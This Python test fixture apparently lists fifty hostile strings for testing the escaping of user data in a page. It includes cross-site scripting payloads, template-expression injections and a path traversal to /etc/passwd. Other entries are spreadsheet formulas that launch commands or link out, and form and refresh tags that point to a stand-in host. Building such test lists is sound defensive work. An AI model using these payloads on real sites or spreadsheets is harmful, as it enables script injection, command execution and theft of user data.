"""Fifty hostile strings: each runs a script, breaks a layout or a file where a page takes data for markup.

A script that one of them starts calls `owned(number)`: the tests define it and expect that it is never called.
"""

HOSTILE: tuple[str, ...] = (
    # markup and scripts
    "</script><script>owned(0)</script>",
    "<img src=x onerror=owned(1)>",
    "<svg onload=owned(2)>",
    "<svg><script>owned(3)</script></svg>",
    "\"><img src=x onerror='owned(4)'>",
    "' onmouseover='owned(5)",
    '" autofocus onfocus="owned(6)" x="',
    "javascript:owned(7)",
    "JaVaScRiPt\n:owned(8)",
    "data:text/html,<script>owned(9)</script>",
    "<iframe srcdoc='<script>parent.owned(10)</script>'></iframe>",
    "<a href=javascript:owned(11)>press</a>",
    "<style>*{display:none!important}</style>",
    "<!-- an open comment",
    "--><script>owned(14)</script>",
    "]]><script>owned(15)</script>",
    "</style><script>owned(16)</script>",
    "</textarea></title><script>owned(17)</script>",
    "<base href='http://192.0.2.1/'>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<link rel=stylesheet href=http://192.0.2.1/x.css>",
    "<math><mi xlink:href=javascript:owned(21)>",
    "<details open ontoggle=owned(22)>",
    "<form action=http://192.0.2.1/><input name=interp-index></form>",
    "&lt;script&gt;owned(24)&lt;/script&gt;",
    "&#60;img src=x onerror=owned(25)&#62;",
    "\\u003cscript>owned(26)\\u003c/script>",
    # templates, expressions and addresses
    "${owned(27)}",
    "{{constructor.constructor('owned(28)')()}}",
    "`${owned(29)}`",
    "<%= owned(30) %>",
    "#v=notes&f=0&q=<script>owned(31)</script>",
    "%3Cscript%3Eowned(32)%3C/script%3E",
    "../../../../etc/passwd",
    "__proto__",
    "constructor",
    "url(javascript:owned(36))",
    ";}*{background:url(http://192.0.2.1/x)}",
    # spreadsheets
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/","press")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # characters
    "\u202eright to left\u202c and \u2066isolated",
    "nul \x00 bell \x07 escape \x1b[31m delete \x7f",
    "a lone surrogate \ud83d and its other half \udd25",
    "line\u2028and\u2029paragraph, carriage\r\nreturn\tand tab",
    "Z" + "\u0351\u036f\u0489" * 40 + "algo",
    "\u200b\u200c\u200d\ufeff\u00ad",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇳 e\u0301 ﷽ 𝕯",
    # lengths
    "",
    "long" * 12_500,
)
assert len(HOSTILE) == 50
